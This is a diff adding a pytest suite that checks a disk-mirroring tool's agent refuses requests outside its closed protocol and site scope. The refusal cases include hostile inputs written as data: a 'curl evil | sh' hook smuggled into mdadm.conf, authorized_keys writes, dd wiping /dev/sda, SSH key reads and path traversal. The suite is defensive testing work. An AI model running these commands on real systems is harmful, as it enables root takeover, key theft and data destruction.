@@ -1,0 +1,293 @@
+"""The closed agent protocol (remirror.agent.policy, docs/security.md).
+
+Two sides: everything the planner sends a site is inside the protocol and
+the site's own scope (over the property tests' profiles and states), and
+what an attacker holding the controller would send is refused, whole,
+before any of it runs.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from remirror.agent import policy
+from remirror.agent.policy import Refused, check_request
+from remirror.errors import EXIT_BAD_INPUT
+from remirror.facts.site import SiteFacts
+from remirror.plan import make_plan, make_teardown
+from remirror.profile import Profile, parse_profile
+from remirror.profile.model import Site
+from remirror.profile.scope import SiteScope, site_scope
+from tests.unit.simulated_sites import Sites, wire
+from tests.unit.test_plan_properties import PROFILES, SECRETS, bare_sites
+
+LINES_OF = policy.lines_of
+
+
+def view(profile: Profile, site: str) -> Profile:
+    """The profile as `site` holds it (the Ansible role's site view): itself local, the others not."""
+    sites = {name: Site(host="local" if name == site else f"ssh://root@{name}") for name in profile.sites}
+    return profile.model_copy(update={"sites": sites})
+
+
+def scope_of(profile: Profile, site: str) -> SiteScope:
+    return site_scope([(f"/etc/remirror/{profile.name}.yaml", view(profile, site))])
+
+
+@pytest.fixture(autouse=True)
+def simulated_kernel_names(monkeypatch: pytest.MonkeyPatch) -> None:
+    # The simulated sites' devices are not on this machine: each disk's kernel name is its number
+    # (cache tables name disks so), and what exists of a site's scope is the disks it names.
+    FACTS.clear()
+    FACTS.update(bare_sites())
+    monkeypatch.setattr(policy, "devno_name", lambda devno: f"devno-{devno}")
+    monkeypatch.setattr(
+        policy.Checker,
+        "known",
+        lambda self: {
+            f"devno-{disk.devno}"
+            for site in FACTS.values()
+            for disk in site.disks.values()
+            if self._named(disk.path)
+        },
+    )
+    monkeypatch.setattr(policy, "lines_of", lambda path: set())  # a fresh mdadm.conf
+
+
+FACTS: dict[str, SiteFacts] = {}  # the simulated sites as they are now, disks and dm devices
+
+
+@pytest.mark.parametrize("name", sorted(PROFILES))
+def test_every_step_the_planner_sends_a_site_is_inside_its_own_scope(name: str) -> None:
+    profile = PROFILES[name]
+    sites = Sites(bare_sites())
+    plans = [make_plan(profile, sites.facts, SECRETS)]
+    FACTS.update(sites.run(plans[0]))
+    plans += [
+        make_plan(profile, sites.facts, SECRETS),
+        make_teardown(profile, profile.mirrors[0], sites.facts),
+    ]
+    checked = 0
+    for plan in plans:
+        for action in plan.actions:
+            # Every site, the primary too: a controller elsewhere (a promotion) reaches it remotely.
+            check_request({"op": "run", "steps": wire(action)}, scope_of(profile, action.site))
+            checked += len(action.steps)
+    assert checked > 10
+
+
+LAB = """\
+version: 1
+name: lab
+sites:
+  a: {host: ssh://root@a}
+  b: {host: local}
+mirrors:
+  - name: m0
+    primary: {site: a, disk: /dev/a0}
+    replicas: [{site: b, disk: /dev/b0, portal: 192.0.2.2:3260}]
+"""
+SCOPE = site_scope([("/etc/remirror/lab.yaml", parse_profile(LAB))])
+IQN = "iqn.2026-11.org.remirror:lab.m0.b"
+
+
+def refusal(request: dict[str, Any], scope: SiteScope | None = SCOPE) -> str:
+    with pytest.raises(Refused) as refused:
+        check_request(request, scope)
+    return str(refused.value)
+
+
+def run(*steps: dict[str, Any]) -> dict[str, Any]:
+    return {"op": "run", "steps": list(steps)}
+
+
+def test_the_scope_is_the_sites_own_disks_and_every_name_of_its_mirrors() -> None:
+    assert SCOPE.disks == {"/dev/b0"}  # not the primary's disk
+    assert SCOPE.arrays == {"/dev/md/m0"}
+    assert SCOPE.iqns == {IQN, "iqn.2026-11.org.remirror:lab.m0.a"}
+    assert SCOPE.portals == {("192.0.2.2", 3260)}
+    check_request(run({"kind": "lio", "op": "create_backstore", "name": "m0-b", "dev": "/dev/b0"}), SCOPE)
+
+
+@pytest.mark.parametrize(
+    ("request_", "why"),
+    [
+        (run({"kind": "run", "argv": ["sh", "-c", "touch /tmp/x"]}), "'sh': remirror's agent runs only"),
+        (run({"kind": "write_file", "path": "/root/.ssh/authorized_keys", "content": "k"}), "writes only"),
+        (run({"kind": "write_sysfs", "path": "/proc/sys/kernel/sysrq", "value": "1"}), "not an md or iSCSI"),
+        (
+            run({"kind": "run", "argv": ["mdadm", "--zero-superblock", "/dev/sda"]}),
+            "/dev/sda is not a device",
+        ),
+        (
+            run({"kind": "run", "argv": ["mdadm", "--create", "/dev/md/m0", "--config=/tmp/c"]}),
+            "not an option",
+        ),
+        (
+            run({"kind": "run", "argv": ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M", "count=1"]}),
+            "only the zeroing",
+        ),
+        (
+            run(
+                {
+                    "kind": "run",
+                    "argv": [
+                        "dd",
+                        "if=/dev/zero",
+                        "of=/dev/sda",
+                        "bs=4096",
+                        "count=1",
+                        "oflag=direct",
+                        "status=none",
+                    ],
+                }
+            ),
+            "/dev/sda",
+        ),
+        (run({"kind": "lio", "op": "create_backstore", "name": "m0-b", "dev": "/dev/sda"}), "/dev/sda"),
+        (
+            run({"kind": "lio", "op": "delete_target", "iqn": "iqn.2026-11.other:x"}),
+            "target iqn.2026-11.other:x",
+        ),
+        (run({"kind": "lio", "op": "save", "path": "/etc/cron.d/x"}), "not where LIO"),
+        (
+            run({"kind": "lio", "op": "create_portal", "iqn": IQN, "address": "203.0.113.9", "port": 3260}),
+            "portal",
+        ),
+        (
+            run({"kind": "run", "argv": ["dmsetup", "create", "evil", "--table", "0 8 linear /dev/b0 0"]}),
+            "'evil'",
+        ),
+        (
+            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": "0 8 linear /dev/sda 0"}),
+            "/dev/sda",
+        ),
+        (
+            run({"kind": "run", "argv": ["dmsetup", "message", "remirror-m0-cdp-pool", "0", "delete 1"]}),
+            "only",
+        ),
+        (
+            run(
+                {
+                    "kind": "run",
+                    "argv": [
+                        "iscsiadm",
+                        "-m",
+                        "node",
+                        "-T",
+                        IQN,
+                        "-p",
+                        "192.0.2.2:3260",
+                        "-o",
+                        "update",
+                        "-n",
+                        "node.session.auth.password",
+                        "-v",
+                        "x",
+                    ],
+                }
+            ),
+            "not a node setting",
+        ),
+        (
+            run({"kind": "save_ranges", "leg": "/dev/b0", "dir": "/etc/cron.d", "mirror": "m0", "site": "b"}),
+            "not a directory",
+        ),
+        (run({"kind": "wireguard_key", "path": "/root/.ssh/id_ed25519"}), "WireGuard"),
+        (
+            run({"kind": "member_state", "md": "/dev/md/m0", "device": "/dev/b0", "value": "faulty"}),
+            "write-mostly",
+        ),
+        (run({"kind": "cdp_deactivate", "mirror": "other", "views": []}), "mirror 'other'"),
+        (run({"kind": "reboot"}), "'reboot' is not a step"),
+        ({"op": "observe", "disks": ["/dev/sda"]}, "/dev/sda"),
+        ({"op": "observe", "disks": [], "portals": ["203.0.113.9:22"]}, "portal 203.0.113.9:22"),
+        ({"op": "digest", "disk": "/dev/sda", "spans": [[0, 4096]]}, "/dev/sda"),
+        ({"op": "cdp", "do": "prune", "mirror": "other", "md": "/dev/md/other"}, "mirror 'other'"),
+        ({"op": "lock", "name": "../../etc/passwd"}, "not a lock name"),
+        ({"op": "exec", "argv": ["sh"]}, "'exec' is not an operation"),
+    ],
+)
+def test_what_the_site_does_not_name_is_refused_in_one_line(request_: dict[str, Any], why: str) -> None:
+    message = refusal(request_)
+    assert why in message
+    assert "\n" not in message
+
+
+def test_a_request_is_refused_whole_before_any_of_it_runs() -> None:
+    good = {"kind": "lio", "op": "save", "path": "/etc/target/saveconfig.json"}
+    assert "sh" in refusal(run(good, {"kind": "run", "argv": ["sh", "-c", "true"]}))
+
+
+def test_mdadm_conf_may_change_only_its_array_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    conf = tmp_path / "mdadm.conf"
+    conf.write_text("HOMEHOST <system>\nMAILADDR root\n")
+    monkeypatch.setattr(policy, "MDADM_CONF", str(conf))
+    monkeypatch.setattr(policy, "lines_of", LINES_OF)
+    ours = "HOMEHOST <system>\nMAILADDR root\n# BEGIN remirror\nARRAY /dev/md/m0 metadata=1.2 UUID=1:2:3:4\n# END\n"
+    check_request(run({"kind": "write_file", "path": str(conf), "content": ours}), SCOPE)
+    hook = ours + "PROGRAM /bin/sh -c 'curl evil | sh'\n"  # mdadm --monitor would run it as root
+    assert "only its ARRAY lines" in refusal(run({"kind": "write_file", "path": str(conf), "content": hook}))
+    assert "only its ARRAY lines" in refusal(
+        run({"kind": "write_file", "path": str(conf), "content": "ARRAY /dev/md/m0 UUID=1:2:3:4\n"})
+    )  # dropping the operator's own lines is a change too
+
+
+def test_a_site_without_profiles_still_gets_the_closed_forms_with_any_block_device() -> None:
+    assert "runs only" in refusal(run({"kind": "run", "argv": ["bash"]}), None)
+    assert "not a block device" in refusal(
+        run({"kind": "prove_blank", "device": "/dev/null", "timeout": 1}), None
+    )
+    check_request(run({"kind": "run", "argv": ["mdadm", "--stop", "/dev/md/whatever"]}), None)
+
+
+def test_a_profile_that_does_not_load_refuses_everything(tmp_path: Path) -> None:
+    (tmp_path / "broken.yaml").write_text("version: 1\nname: [\n")
+    with pytest.raises(Refused, match=r"broken\.yaml does not load"):
+        policy.load_scope(tmp_path)
+    assert policy.load_scope(tmp_path / "empty") is None
+
+
+# --- the agent process, as sshd starts it ------------------------------------------------------
+
+
+def _agent(args: list[str], stdin: str, **env: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "remirror", "agent", *args],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "SSH_CONNECTION": "192.0.2.1 40000 192.0.2.2 22", **env},
+        timeout=60,
+    )
+
+
+def test_over_ssh_a_command_is_refused_and_nothing_runs(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    request = run({"kind": "run", "argv": ["sh", "-c", f"touch {marker}"]})
+    done = _agent(["--serve"], json.dumps(request) + "\n")
+    answer = json.loads(done.stdout)
+    assert answer["refused"] is True
+    assert answer["commands"] == 0
+    assert answer["error"].startswith("refused: 'sh'")
+    assert not marker.exists()
+
+
+def test_the_forced_command_runs_only_the_agent(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    done = _agent(["--serve"], "", SSH_ORIGINAL_COMMAND=f"sh -c 'touch {marker}'")
+    assert done.returncode == EXIT_BAD_INPUT
+    assert done.stdout == ""
+    assert "may only speak remirror's agent protocol" in done.stderr
+    assert not marker.exists()
+    # The controller's own command, with the SSH runner's env in front, is the agent.
+    asked = "env LC_ALL=C PATH=/usr/bin remirror agent --serve"
+    done = _agent(["--serve"], json.dumps({"op": "sink", "data": "x"}), SSH_ORIGINAL_COMMAND=asked)
+    assert json.loads(done.stdout)["received"] == 1  # a last request without its newline too
